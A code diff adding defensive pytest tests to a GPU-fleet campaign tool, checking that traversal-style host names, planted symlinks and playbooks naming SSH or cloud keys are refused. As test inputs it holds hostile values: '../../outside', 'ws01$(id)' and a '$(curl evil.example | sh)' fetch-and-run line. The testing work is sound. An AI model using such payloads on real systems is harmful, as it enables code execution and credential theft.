@@ -12,6 +12,7 @@ from __future__ import annotations
 
 import hashlib
 import json
+import os
 import tracemalloc
 from pathlib import Path
 from types import SimpleNamespace
@@ -416,3 +417,305 @@ def test_a_stale_controllers_restore_stops_at_the_first_fenced_refusal() -> None
                     lambda: agent.netconsole(["restore"])):
         assert isinstance(tried(restore), AgentFenced)
     assert len(sent) == 1 and "stale-token" not in sent[0]
+
+
+# -- names, links and shared files (issue 34 items 3-5) ----------------------------------------
+# A host's name becomes a file name, the campaign folder may sit on a shared controller, and a
+# playbook is shared text: none of them may make the controller write, or read, outside its own files.
+
+HOSTILE_NAMES = ("../../outside", "a/b", "..", ".", "ws01/../../outside", "fe80::1", "ws\x1b[2J01", "")
+
+
+@pytest.mark.parametrize(("name", "form"), [(name, form) for name in ("../../outside", "a/b", "..", "ws01$(id)")
+                                            for form in ("yaml", "ini")] + [("ws01\n", "yaml")])
+def test_an_inventory_host_name_that_is_not_a_file_name_is_refused_at_its_line(
+        tmp_path: Path, name: str, form: str) -> None:
+    from reprofleet.errors import InventoryError
+    from reprofleet.inventory import load_inventory
+
+    inventory = tmp_path / ("hosts.yml" if form == "yaml" else "hosts.ini")
+    inventory.write_text(f"all:\n  hosts:\n    ws00:\n    {json.dumps(name)}:\n      ansible_host: 10.0.0.2\n"
+                         if form == "yaml" else f"[gpus]\nws00\n{name} ansible_host=10.0.0.2\n")
+    error = tried(lambda: load_inventory(inventory))
+    assert isinstance(error, InventoryError)
+    assert str(error).startswith(f"{inventory}:{4 if form == 'yaml' else 3}:host name: ") and "\n" not in str(error)
+
+
+def test_a_group_name_with_a_slash_is_refused_at_its_line(tmp_path: Path) -> None:
+    from reprofleet.errors import InventoryError
+    from reprofleet.inventory import load_inventory
+
+    inventory = tmp_path / "hosts.yml"
+    inventory.write_text("all:\n  children:\n    ../gpus:\n      hosts:\n        ws01:\n")
+    error = tried(lambda: load_inventory(inventory))
+    assert isinstance(error, InventoryError) and str(error).startswith(f"{inventory}:3:group name: ")
+
+
+def test_a_cell_named_dot_dot_is_refused_at_its_line(tmp_path: Path) -> None:
+    from reprofleet.errors import PlaybookError
+    from reprofleet.playbook import load_playbook
+
+    (tmp_path / "poc.py").write_text("")
+    book = tmp_path / "campaign.yml"
+    book.write_text("name: s\npoc: {script: poc.py}\nattempts: 1\nmatrix:\n  - name: ok\n  - name: '..'\n")
+    error = tried(lambda: load_playbook(book))
+    assert isinstance(error, PlaybookError) and str(error).startswith(f"{book}:6:matrix[1].name: ")
+
+
+def _name_writers(root: Path) -> dict[str, Any]:
+    """Every place a host's name becomes a path, called with the name as given."""
+    from reprofleet.campaign.bug_report import fetch_bug_report
+    from reprofleet.records.facts_cache import cache_facts
+    from reprofleet.records.store import CampaignDir, write_facts
+
+    campaign = CampaignDir(root / "reports" / "c1").create()
+
+    class Shell:  # a host whose bug report is ready: only the folder it lands in is under test
+        def run(self, command: str, timeout: float | None = None) -> Any:
+            from reprofleet.campaign import bug_report
+            from reprofleet.remote.transport import CommandResult
+            out = {bug_report.PROBE: "0\nroot\n/usr/bin/nvidia-bug-report.sh\n"}.get(command, "")
+            out = "/tmp/rf.1\n" if command.startswith("mktemp -d") else out
+            out = "nvidia-bug-report.log.gz\n" if command.startswith("ls -1") else out
+            return CommandResult(command, 0, out, "")
+
+        def fetch_file(self, remote_path: str, local_path: Path, max_bytes: int) -> tuple[int, str]:
+            local_path.write_bytes(b"report")
+            return 6, sha(b"report")
+
+    def bug(name: str) -> None:
+        report = fetch_bug_report(name, Shell(), root / "reports" / "bug-reports")
+        assert report.path is None, "a report was filed under an unsafe name"
+        raise ReprofleetError(report.reason)
+
+    return {"facts": lambda name: write_facts(campaign, name, {"hostname": "x"}),
+            "facts_cache": lambda name: cache_facts(root / "reports", name, {"hostname": "x"}),
+            "bug_report": bug}
+
+
+@pytest.mark.parametrize("writer", ["facts", "facts_cache", "bug_report"])
+@pytest.mark.parametrize("name", HOSTILE_NAMES, ids=["dotdot", "slash", "parent", "dot", "inner-dotdot", "ipv6",
+                                                     "escape", "empty"])
+def test_a_host_name_that_reached_a_writer_unchecked_never_becomes_a_path(
+        tmp_path: Path, writer: str, name: str) -> None:
+    write = _name_writers(tmp_path)[writer]
+    before = tree(tmp_path)
+    error = tried(lambda: write(name))
+    assert isinstance(error, ReprofleetError) and "cannot be a file name" in str(error)
+    assert tree(tmp_path) == before, "a hostile name wrote a file"
+
+
+def test_netconsole_files_nothing_under_a_hostile_host_name_and_keeps_receiving(tmp_path: Path) -> None:
+    import socket as sockets
+    from reprofleet.remote.netconsole import NetconsoleReceiver
+
+    with sockets.socket(sockets.AF_INET, sockets.SOCK_DGRAM) as probe:
+        probe.bind(("127.0.0.1", 0))
+        port = int(probe.getsockname()[1])
+    rx = NetconsoleReceiver([port], {"127.0.0.1": "../../outside"}, tmp_path / "c1" / "netconsole",
+                            bind="127.0.0.1").start()
+    try:
+        before = tree(tmp_path)
+        with sockets.socket(sockets.AF_INET, sockets.SOCK_DGRAM) as out:
+            out.sendto(b"6,1,1,-;a line of a host with a hostile name", ("127.0.0.1", port))
+        lines = _tail_until(rx, "../../outside", "hostile name")
+        assert lines == ["a line of a host with a hostile name"]  # the tail (and the attempt's stream) still has it
+        assert tree(tmp_path) == before
+        assert "cannot be a file name" in rx.refusals["../../outside"][0]
+    finally:
+        rx.close()
+
+
+def _tail_until(rx: Any, host: str, text: str) -> list[str]:
+    """The host's lines once one with ``text`` is in its tail, which is filed before it (5 s at most)."""
+    import time as clock
+    deadline = clock.monotonic() + 5
+    while clock.monotonic() < deadline:
+        lines = [line.line for line in rx.lines(host, last=100)]
+        if any(text in line for line in lines):
+            return lines
+        clock.sleep(0.02)
+    raise AssertionError(f"no line with {text!r} from {host}")
+
+
+def test_a_netconsole_file_planted_as_a_link_is_never_appended_through(tmp_path: Path) -> None:
+    import socket as sockets
+    from reprofleet.remote.netconsole import NetconsoleReceiver
+    from tests.support.hostile_host import planted_link
+
+    folder = tmp_path / "c1" / "netconsole"
+    folder.mkdir(parents=True)
+    victim = planted_link(folder / "ws01.jsonl", tmp_path / "home" / ".bashrc")
+    with sockets.socket(sockets.AF_INET, sockets.SOCK_DGRAM) as probe:
+        probe.bind(("127.0.0.1", 0))
+        port = int(probe.getsockname()[1])
+    rx = NetconsoleReceiver([port], {"127.0.0.1": "ws01"}, folder, bind="127.0.0.1").start()
+    try:
+        with sockets.socket(sockets.AF_INET, sockets.SOCK_DGRAM) as out:
+            out.sendto(b"6,1,1,-;$(curl evil.example | sh)", ("127.0.0.1", port))
+        assert _tail_until(rx, "ws01", "curl") == ["$(curl evil.example | sh)"]
+        assert victim.read_text() == "victim's own line\n"
+        assert "is a link" in rx.refusals["ws01"][0]
+    finally:
+        rx.close()
+
+
+def test_a_controller_lock_planted_as_a_link_is_refused_and_its_target_untouched(tmp_path: Path) -> None:
+    from reprofleet.records.store import CampaignLock
+    from tests.support.hostile_host import planted_link
+
+    victim = planted_link(tmp_path / "c1" / CampaignLock.NAME, tmp_path / "home" / ".profile")
+    error = tried(lambda: CampaignLock(tmp_path / "c1").__enter__())
+    assert isinstance(error, ReprofleetError) and "is a link" in str(error)
+    assert victim.read_text() == "victim's own line\n"
+
+
+def test_the_controller_lock_is_not_truncated_by_a_second_controller(tmp_path: Path) -> None:
+    from reprofleet.records.store import CampaignLock, FolderBusy
+
+    with CampaignLock(tmp_path):
+        error = tried(lambda: CampaignLock(tmp_path).__enter__())
+        assert isinstance(error, FolderBusy)
+        assert (tmp_path / CampaignLock.NAME).read_text() == f"{os.getpid()}\n"  # the holder's pid, still whole
+
+
+@pytest.mark.parametrize("planted", ["attempts.jsonl", "events.jsonl", "power.jsonl", "streams/a1.jsonl",
+                                     ".attempt-keys"])
+def test_a_campaign_file_planted_as_a_link_is_never_written_through(tmp_path: Path, planted: str) -> None:
+    from reprofleet.power.log import PowerLog, PowerEvent
+    from reprofleet.records.store import AttemptLog, CampaignDir, JsonlAppender, StreamWriter
+    from reprofleet.runner.attempt import AttemptKeys
+    from tests.support.hostile_host import planted_link
+
+    campaign = CampaignDir(tmp_path / "c1").create()
+    victim = planted_link(campaign.root / planted, tmp_path / "home" / ".bashrc")
+    write = {"attempts.jsonl": lambda: AttemptLog(campaign.attempts).append({"schema": 1}),
+             "events.jsonl": lambda: JsonlAppender(campaign.events).append({"event": "x"}),
+             "power.jsonl": lambda: PowerLog(campaign.power).append(
+                 PowerEvent("t", "ws01", "tasmota", "10.0.0.9", "1", "cycle", "ok", "on", 0.1)),
+             "streams/a1.jsonl": lambda: StreamWriter(campaign.stream_path("a1")).write("{}"),
+             ".attempt-keys": lambda: AttemptKeys(campaign.root).new("a1")}[planted]
+    error = tried(write)
+    assert isinstance(error, ReprofleetError) and "is a link" in str(error)
+    assert victim.read_text() == "victim's own line\n"
+
+
+def test_a_campaign_sub_folder_planted_as_a_link_is_refused(tmp_path: Path) -> None:
+    from reprofleet.records.store import CampaignDir
+
+    (tmp_path / "c1").mkdir()
+    (tmp_path / "elsewhere").mkdir()
+    (tmp_path / "c1" / "streams").symlink_to(tmp_path / "elsewhere", target_is_directory=True)
+    error = tried(lambda: CampaignDir(tmp_path / "c1").create())
+    assert isinstance(error, ReprofleetError) and "is a link" in str(error)
+    assert list((tmp_path / "elsewhere").iterdir()) == []
+
+
+def test_a_campaign_folder_is_private_and_a_group_may_be_let_read(tmp_path: Path) -> None:
+    from reprofleet.records import private_files
+    from reprofleet.records.store import AttemptLog, CampaignDir, write_atomic, write_facts
+
+    def modes(root: Path) -> dict[str, int]:
+        return {str(p.relative_to(root)): p.stat().st_mode & 0o777 for p in sorted(root.rglob("*"))}
+
+    for group, folder, file in ((False, 0o700, 0o600), (True, 0o750, 0o640)):
+        private_files.configure_group_access(group)
+        try:
+            campaign = CampaignDir(tmp_path / f"group-{group}" / "c1").create()
+            AttemptLog(campaign.attempts).append({"schema": 1})
+            write_atomic(campaign.manifest, "{}\n")
+            write_facts(campaign, "ws01", {"hostname": "ws01"})
+        finally:
+            private_files.configure_group_access(False)
+        found = modes(tmp_path / f"group-{group}")
+        assert found == {name: folder if (tmp_path / f"group-{group}" / name).is_dir() else file for name in found}
+        assert {"c1", "c1/streams", "c1/facts", "c1/attempts.jsonl", "c1/campaign.json", "c1/facts/ws01.json"} <= set(found)
+
+
+def test_a_fetched_bug_report_is_private_and_a_planted_partial_copy_is_not_written_through(tmp_path: Path) -> None:
+    from reprofleet.remote.transport import Session
+    from tests.support.hostile_host import planted_link
+
+    class Sftp:
+        def stat(self, path: str) -> Any:
+            return SimpleNamespace(st_size=6)
+
+        def open(self, path: str, mode: str) -> Any:
+            import io
+            return io.BytesIO(b"report")
+
+    session = object.__new__(Session)
+    session.host = HOST
+    session._connection = SimpleNamespace(sftp=Sftp)  # type: ignore[attr-defined]
+    target = tmp_path / "bug-reports" / "ws01"
+    target.mkdir(parents=True)
+    victim = planted_link(target / "nvidia-bug-report.log.gz.part", tmp_path / "home" / ".bashrc")
+    assert session.fetch_file("/tmp/x/nvidia-bug-report.log.gz", target / "nvidia-bug-report.log.gz", 100) == \
+        (6, sha(b"report"))
+    assert victim.read_text() == "victim's own line\n"
+    assert (target / "nvidia-bug-report.log.gz").stat().st_mode & 0o777 == 0o600
+
+
+@pytest.fixture
+def home(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
+    """An operator's home with an SSH key, a cloud credential and a docker config, all 0600."""
+    home = tmp_path / "home"
+    for name in (".ssh/id_ed25519", ".aws/credentials", ".docker/config.json", ".config/gcloud/adc.json"):
+        (home / name).parent.mkdir(parents=True, exist_ok=True)
+        (home / name).write_text("PRIVATE KEY\n")
+        (home / name).chmod(0o600)
+    monkeypatch.setenv("HOME", str(home))
+    return home
+
+
+def _playbook(folder: Path, poc: str, extra: str = "") -> Path:
+    folder.mkdir(parents=True, exist_ok=True)
+    (folder / "poc.py").write_text("")
+    path = folder / "campaign.yml"
+    path.write_text(f"name: s\npoc: {poc}\nattempts: 1\n{extra}matrix: [{{name: only}}]\n")
+    return path
+
+
+@pytest.mark.parametrize(("poc", "field"), [
+    ("{script: ../home/.ssh/id_ed25519}", "poc.script"),
+    ("{script: HOME/.ssh/id_ed25519}", "poc.script"),
+    ("{script: key.py}", "poc.script"),  # a link beside the playbook, to the key
+    ("{script: poc.py, cache_source: HOME/.ssh}", "poc.cache_source"),
+    ("{script: poc.py, cache_source: ../home/.aws}", "poc.cache_source"),
+], ids=["script-dotdot", "script-absolute", "script-link", "cache-absolute", "cache-dotdot"])
+def test_a_playbook_naming_the_operators_keys_is_refused_at_its_line(home: Path, tmp_path: Path,
+                                                                     poc: str, field: str) -> None:
+    from reprofleet.errors import PlaybookError
+    from reprofleet.playbook import load_playbook
+
+    (tmp_path / "book").mkdir()
+    (tmp_path / "book" / "key.py").symlink_to(home / ".ssh" / "id_ed25519")
+    path = _playbook(tmp_path / "book", poc.replace("HOME", str(home)))
+    error = tried(lambda: load_playbook(path))
+    assert isinstance(error, PlaybookError)
+    assert str(error).startswith(f"{path}:2:{field}: ") and "outside the playbook's folder" in str(error)
+
+
+@pytest.mark.parametrize("source", ["file:~/.ssh/id_ed25519", "env:AWS_SECRET_ACCESS_KEY"])
+def test_a_playbook_naming_a_secrets_source_is_refused_at_its_line(home: Path, tmp_path: Path, source: str) -> None:
+    from reprofleet.errors import PlaybookError
+    from reprofleet.playbook import load_playbook
+
+    path = _playbook(tmp_path / "book", "{script: poc.py}", f"env_secrets:\n  HF_TOKEN: {source}\n")
+    error = tried(lambda: load_playbook(path))
+    assert isinstance(error, PlaybookError)
+    assert str(error).startswith(f"{path}:5:env_secrets.HF_TOKEN: a playbook cannot say where a secret lives")
+
+
+@pytest.mark.parametrize("name", [".ssh/id_ed25519", ".aws/credentials", ".docker/config.json",
+                                  ".config/gcloud/adc.json", "link-to-key"])
+def test_a_file_credential_where_the_operators_keys_live_is_refused_even_owner_only(home: Path, name: str) -> None:
+    from reprofleet.credentials import resolve, resolve_env_secrets
+    from reprofleet.model import CredentialRef, EnvSecret
+
+    (home / "link-to-key").symlink_to(home / ".ssh" / "id_ed25519")
+    ref = CredentialRef("file", f"~/{name}", "invoke.yaml reprofleet:env_secrets.HF_TOKEN")
+    for read in (lambda: resolve(ref), lambda: resolve_env_secrets([EnvSecret("HF_TOKEN", ref)])):
+        error = tried(read)
+        assert isinstance(error, ReprofleetError) and "where the operator's own keys live" in str(error)
+        assert "PRIVATE KEY" not in str(error) and "\n" not in str(error)
